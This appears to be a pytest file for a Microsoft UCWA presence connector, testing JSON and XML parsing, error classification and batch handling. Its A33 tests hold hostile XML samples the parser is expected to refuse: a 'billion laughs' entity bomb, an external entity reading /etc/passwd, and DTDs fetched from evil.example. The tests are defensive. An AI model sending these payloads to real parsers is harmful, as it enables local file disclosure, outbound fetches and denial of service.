"""Cases A32-A35 of the sheet, and the documents' own samples: what is read, in JSON and in XML, and what is refused."""

from __future__ import annotations

import json
from pathlib import Path
from xml.etree import ElementTree

import pytest

from presence_syncd.connectors.flow import Reply
from presence_syncd.connectors.ucwa.protocol.application import command
from presence_syncd.connectors.ucwa.protocol.batch import read_batch, write_batch
from presence_syncd.connectors.ucwa.protocol.channel import read_page
from presence_syncd.connectors.ucwa.protocol.markup import MAX_DEPTH, parse_xml
from presence_syncd.connectors.ucwa.protocol.presence import observe
from presence_syncd.connectors.ucwa.protocol.problem import (
    AlreadyThere,
    ApplicationLost,
    BadGateway,
    ChannelReplaced,
    Forbidden,
    Gone,
    NotAvailable,
    NotThere,
    VersionNotSupported,
    check,
    problem_of,
)
from presence_syncd.connectors.ucwa.protocol.resource import json_resource, read_resource, write_body
from presence_syncd.connectors.ucwa.protocol.session import Session
from presence_syncd.connectors.ucwa.settings import Format
from presence_syncd.core.presence import AVAILABLE, DND, UNKNOWN
from presence_syncd.errors import (
    RateLimited,
    Rejected,
    RemoteProtocolError,
    ServiceError,
    Unavailable,
)
from tests.connectors.ucwa import samples

NS = "http://schemas.microsoft.com/rtc/2012/03/ucwa"


def reply(body: str | bytes, kind: str = "application/json", status: int = 200) -> Reply:
    raw = body.encode() if isinstance(body, str) else body
    return Reply(status, (("Content-Type", kind),), raw, at=2.0, started_at=1.0)


def session(form: Format = Format.JSON) -> Session:
    return Session("https://fe1.contoso.com:443", "realm", "https://fe1.contoso.com:443/ucwa/v1/applications/192", form)


def seed() -> str:
    for folder in Path(__file__).parents:
        found = folder / "shared" / "seeds" / "ucwa-presence-resource.txt"
        if found.exists():
            return found.read_text()
    pytest.skip("the documents the samples are copied from are not beside this project")


def test_the_samples_are_those_of_the_document() -> None:
    text = seed().replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">")
    for kind in ("added", "updated", "deleted"):
        assert samples.EVENT.replace("TYPE", kind) in text
    for sample in (samples.PRESENCE_JSON, samples.PRESENCE_XML, samples.POST_JSON, samples.POST_XML):
        assert sample in text
    for _, status, code, subcode in samples.PRESENCE_ERRORS:
        assert f"|{code}|{status}|{subcode}|" in text


@pytest.mark.parametrize("kind", ["added", "updated", "deleted"])
def test_the_documents_event_is_read(kind: str) -> None:
    page = read_page(reply(samples.EVENT.replace("TYPE", kind)))
    (event,) = page.events
    assert (event.sender, event.type, event.rel) == ("me", kind, "presence")
    assert event.href == "https://fe1.contoso.com:443/ucwa/v1/applications/192/me/presence"
    assert page.follow == "http://sample:80/ucwa/v1/applications/appId/events?ack=2"
    one = session()
    one.take(page, 5.0)
    assert one.inbox.presence is not None
    assert one.inbox.presence.gone == (kind == "deleted")
    assert one.inbox.presence.href == event.href


def test_the_documents_presence_is_read_in_json_and_xml_and_activity_is_not_parsed() -> None:
    one = session()
    seen = observe(one, read_resource(reply(samples.PRESENCE_JSON)), 1.0, 2.0)
    assert (seen.status, seen.raw, seen.started_at, seen.at) == (AVAILABLE, "Online", 1.0, 2.0)
    seen = observe(one, read_resource(reply(samples.PRESENCE_XML, "application/xml; charset=utf-8")), 1.0, 2.0)
    assert (seen.status, seen.raw) == (DND, "DoNotDisturb")


def test_the_documents_presence_posts_are_what_is_written() -> None:
    written = command(session(), "POST", "/ucwa/v1/applications/192/me/presence", "x", {"availability": "BeRightBack"})
    assert json.loads(written.body or b"") == json.loads(samples.POST_JSON)
    assert written.headers["Content-Type"] == "application/json"
    written = command(session(Format.XML), "POST", "/me/presence", "x", {"availability": "Online"})
    assert written.headers["Content-Type"] == "application/vnd.microsoft.com.ucwa+xml"
    assert canonical(written.body or b"") == canonical(samples.POST_XML.encode())
    reset = command(session(), "POST", "/me/presence", "x")
    assert (reset.body, reset.headers["Content-Length"]) == (b"", "0")
    assert "Content-Type" not in reset.headers


def canonical(xml: bytes) -> str:
    return ElementTree.canonicalize(xml.decode(), strip_text=True)


MEANT: dict[tuple[int, str], type[ServiceError]] = {
    (409, "MakeMeAvailableRequired"): NotAvailable,
    (500, "InvalidExchangeServerVersion"): Rejected,
    (409, "AlreadyExists"): AlreadyThere,
    (409, "TooManyGroups"): Unavailable,
    (409, "None"): Unavailable,
    (410, "CannotRedirect"): Gone,
    (500, "CallbackChannelError"): Unavailable,
}


@pytest.mark.parametrize(("method", "status", "code", "subcode"), samples.PRESENCE_ERRORS)
@pytest.mark.parametrize("form", list(Format))
def test_the_documents_errors_of_presence_are_told_apart(
    method: str, status: int, code: str, subcode: str, form: Format
) -> None:
    told = error(form, status, code, subcode)
    assert str(problem_of(told)) == f"HTTP {status} {code}/{subcode}"
    with pytest.raises(MEANT[status, subcode]):
        check(told)


def error(form: Format, status: int, code: str, subcode: str) -> Reply:
    if form is Format.JSON:
        return reply(json.dumps({"code": code, "subcode": subcode, "message": "x"}), status=status)
    body = (
        f'<reason xmlns="{NS}"><code>{code}</code><subcode>{subcode}</subcode><message>x</message><debugInfo/></reason>'
    )
    return reply(body, "application/xml", status)


@pytest.mark.parametrize(
    ("status", "subcode", "kind"),
    [
        (400, "ParameterValidationFailure", Rejected),
        (403, "None", Forbidden),
        (404, "ApplicationNotFound", NotThere),
        (404, "APIVersionNotSupported", VersionNotSupported),
        (404, "DestinationNotFound", NotThere),
        (405, "", Rejected),
        (408, "", Unavailable),
        (409, "PGetReplaced", ChannelReplaced),
        (410, "TooManyApplications", Gone),
        (412, "", Rejected),
        (429, "None", RateLimited),
        (500, "ProvisioningDataUnavailable", Unavailable),
        (502, "", BadGateway),
        (503, "", Unavailable),
        (504, "Timeout", Unavailable),
        (302, "", RemoteProtocolError),
        (206, "", RemoteProtocolError),
    ],
)
def test_the_table_of_errors(status: int, subcode: str, kind: type[ServiceError]) -> None:
    with pytest.raises(kind) as raised:
        check(reply(json.dumps({"code": "X", "subcode": subcode}), status=status), 200)
    assert isinstance(raised.value, ServiceError)
    assert type(raised.value) is kind
    assert not isinstance(raised.value, ApplicationLost)


ODD = [
    ('{"rel":"presence","availability":"Inactive"}', "Inactive"),
    ('{"rel":"presence","availability":"PresenceX","activity":"退席中"}', "PresenceX"),
    ('{"rel":"presence","activity":"オフライン"}', ""),
    ('{"rel":"presence","availability":null}', ""),
    ('{"rel":"presence","availability":["Online"]}', ""),
    ('\ufeff{"availability":"None"}', "None"),
]


@pytest.mark.parametrize(("body", "raw"), ODD)
def test_a32_a_value_nobody_documented_is_kept_as_it_came_and_says_nothing(body: str, raw: str) -> None:
    seen = observe(session(), read_resource(reply(body)), 1.0, 2.0)
    assert (seen.raw, seen.status) == (raw, UNKNOWN)


def test_a33_xml_is_read_by_its_namespace_whatever_the_prefix() -> None:
    body = f"""<u:events xmlns:u="{NS}" xmlns:x="urn:x" href="/e?ack=1"><u:link rel="next" href="/e?ack=2"/>
      <x:sender rel="me"><x:updated rel="presence" href="/wrong"/></x:sender>
      <u:sender rel="me" href="/me"><u:updated rel="me" href="/me"/><u:added rel="presence" href="/me/presence">
        <u:resource rel="presence" href="/me/presence"><u:property name="availability">Busy</u:property>
          <u:property name="activity"/><u:property name="on">False</u:property></u:resource>
        <u:in rel="x" href="/x"/></u:added></u:sender></u:events>"""
    page = read_page(reply(body, "application/vnd.microsoft.com.ucwa+xml"))
    assert page.follow == "/e?ack=2"
    me, presence = page.events
    assert (me.rel, me.type, me.embedded) == ("me", "updated", None)
    assert presence.embedded is not None
    assert presence.embedded.properties == {"availability": "Busy", "activity": "", "on": "false"}
    assert (presence.sender, presence.type, presence.href) == ("me", "added", "/me/presence")


LAUGHS = """<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><resource>&lol2;</resource>"""
BOMBS = [
    LAUGHS,
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><resource>&x;</resource>',
    '<!DOCTYPE r SYSTEM "https://evil.example/x.dtd"><resource/>',
    '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p">%p;]><resource/>',
    "<!DOCTYPE resource><resource/>",
]


@pytest.mark.parametrize("body", BOMBS)
def test_a33_a_document_with_a_dtd_is_refused(body: str) -> None:
    with pytest.raises(RemoteProtocolError, match="DTD"):
        parse_xml(body.encode())
    with pytest.raises(RemoteProtocolError, match="DTD"):
        parse_xml(body.encode("utf-16"))
    assert problem_of(reply(body, "application/xml", 409)).subcode == ""


@pytest.mark.parametrize(
    "body", ["", "<a>", "<a/><b/>", "<resource>&undeclared;</resource>", "<a>" * 9 + "\x00", "text"]
)
def test_a33_what_is_no_xml_is_refused(body: str) -> None:
    with pytest.raises(RemoteProtocolError):
        parse_xml(body.encode())


def test_a33_xml_that_is_too_deep_or_too_long_is_refused() -> None:
    deep = "<a>" * (MAX_DEPTH + 1) + "</a>" * (MAX_DEPTH + 1)
    for body in (deep, "<a>" + "<b/>" * 60_000 + "</a>"):
        with pytest.raises(RemoteProtocolError, match="deep"):
            parse_xml(body.encode())


def test_a33_another_root_than_events_is_no_page() -> None:
    with pytest.raises(RemoteProtocolError):
        read_page(reply(f'<resource xmlns="{NS}"/>', "application/xml"))


@pytest.mark.parametrize(
    ("told", "code", "subcode", "theirs"),
    [
        (error(Format.XML, 409, "Conflict", "AlreadyExists"), "Conflict", "AlreadyExists", True),
        (reply('{"code":"NotFound"}', status=404), "NotFound", "", True),
        (reply('{"code":"Conflict","subcode":"BrandNew","parameters":[]}', status=409), "Conflict", "BrandNew", True),
        (reply('{"code":null,"subcode":null,"debugInfo":{"x":1}}', status=500), "", "", True),
        (reply("<html>Bad Gateway</html>", "text/html", 502), "", "", False),
        (reply("{broken", status=500), "", "", False),
        (reply("[]", status=500), "", "", False),
        (Reply(500), "", "", False),
        (reply('{"code":"Gone"}', "application/vnd.microsoft.com.ucwa+json; charset=utf-8", 410), "Gone", "", True),
    ],
)
def test_a34_an_error_is_classified_by_status_and_code_and_html_is_somebody_elses(
    told: Reply, code: str, subcode: str, theirs: bool
) -> None:
    found = problem_of(told)
    assert (found.code, found.subcode, found.theirs) == (code, subcode, theirs)
    assert ("something between" in str(found)) is not theirs


@pytest.mark.parametrize("status", [400, 404, 405, 409, 410])
def test_a34_html_says_nothing_about_a_resource(status: int) -> None:
    with pytest.raises(Unavailable) as raised:
        check(reply("<html/>", "text/html", status))
    assert type(raised.value) is Unavailable


def batch(boundary: str, parts: list[bytes], quoted: str = "{}") -> Reply:
    mark = f"--{boundary}\r\n".encode()
    head = b"Content-Type: application/http; msgtype=response\r\n\r\n"
    body = b"".join(mark + head + part + b"\r\n" for part in parts) + f"--{boundary}--\r\n".encode()
    return reply(body, "multipart/batching; boundary=" + quoted.format(boundary))


OK_PART = b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n\xef\xbb\xbf{"availability":"Busy"}'
CONFLICT = b'HTTP/1.1 409 Conflict\r\nContent-Type: application/json\r\n\r\n{"code":"Conflict","subcode":"None"}'


@pytest.mark.parametrize("quoted", ["{}", '"{}"', "{}; charset=x"])
def test_a35_each_part_of_a_batch_is_judged_alone(quoted: str) -> None:
    ok, conflict = read_batch(batch("a.b+c", [OK_PART, CONFLICT], quoted), ["/1", "/2"])
    assert ok is not None
    assert read_resource(ok).properties == {"availability": "Busy"}
    assert (ok.at, ok.started_at) == (2.0, 1.0)
    assert conflict is not None
    assert problem_of(conflict).subcode == "None"


def test_a35_a_missing_part_leaves_all_unanswered_and_an_illegible_one_itself() -> None:
    assert read_batch(batch("b", [OK_PART]), ["/1", "/2"]) == [None, None]
    first, second = read_batch(batch("b", [b"nonsense", b"HTTP/1.1 204 No Content"]), ["/1", "/2"])
    assert first is None
    assert second is not None
    assert (second.status, second.body) == (204, b"")


def test_a35_what_is_no_batch_is_refused() -> None:
    for told in (reply("{}"), Reply(200), reply(b"", "multipart/batching")):
        with pytest.raises(RemoteProtocolError):
            read_batch(told, ["/1"])


def test_a_batch_is_written_as_the_documents_print_it() -> None:
    text = write_batch(["https://h:443/a?b=c", "https://h:443/d"], "application/json", "x").decode()
    assert text.startswith(
        "--x\r\nContent-Type: application/http; msgtype=request\r\n\r\nGET /a?b=c HTTP/1.1\r\nHost: h:443\r\n"
    )
    assert text.count("--x\r\n") == 2
    assert text.endswith("--x--\r\n")


def test_links_may_be_lists_and_odd_shapes_are_left_out() -> None:
    data = {
        "_links": {"a": [{"href": "/1"}, {"href": "/2"}], "b": [], "c": "x", "d": {"href": 5}},
        "_embedded": {"e": [{}, 3]},
    }
    found = json_resource({**data, "n": 1, "t": True, "o": {}}, "r")
    assert found.links == {"a": "/1"}
    assert found.properties == {"n": "1", "t": "true"}
    assert (found.rel, found.href, len(found.embedded["e"])) == ("r", "", 2)
    assert json_resource({"_links": [], "_embedded": []}).links == {}
    assert found.inner("missing").links == {}


def test_an_answer_of_something_between_is_no_resource() -> None:
    for told in (reply("<html/>", "text/html"), Reply(200, body=b"{}")):
        with pytest.raises(RemoteProtocolError, match="between"):
            read_resource(told)


def test_xml_resources_have_links_lists_and_inner_resources() -> None:
    body = f"""<resource xmlns="{NS}" rel="application" href="/a"><link rel="l" href="/1"/><link rel="l" href="/2"/>
      <resource rel="me" href="/a/me"/><resource rel="x"/><resource rel="x"/></resource>"""
    found = read_resource(reply(body, "application/xml"))
    assert found.links == {"l": "/1", "self": "/a"}
    assert found.inner("me").href == "/a/me"
    assert len(found.embedded["x"]) == 2
    assert found.inner("x").links == {}


def test_lists_and_dangerous_text_are_written_as_text() -> None:
    body = write_body(Format.XML, {"a": '<&"', "l": ["1", "<2>"]})
    root = parse_xml(body)
    assert root.name == "input"
    assert root.all("property")[0].text == '<&"'
    assert [item.text for item in root.all("propertyList")[0].all("item")] == ["1", "<2>"]
    assert json.loads(write_body(Format.JSON, {"a": 1})) == {"a": 1}


def test_event_pages_of_any_shape_are_read_without_a_crash() -> None:
    page = read_page(reply(json.dumps({"sender": [3, {"events": [{"link": None}, {"link": {}}]}], "_links": None})))
    assert page.follow == ""
    assert [event.rel for event in page.events] == [""]
    for links in ({"next": "/n", "resume": "/r"}, {"next": "/n", "resume": "/r", "resync": "/s"}):
        told = read_page(reply(json.dumps({"_links": {rel: {"href": href} for rel, href in links.items()}})))
        assert told.follow == links.get("resync", links["resume"])
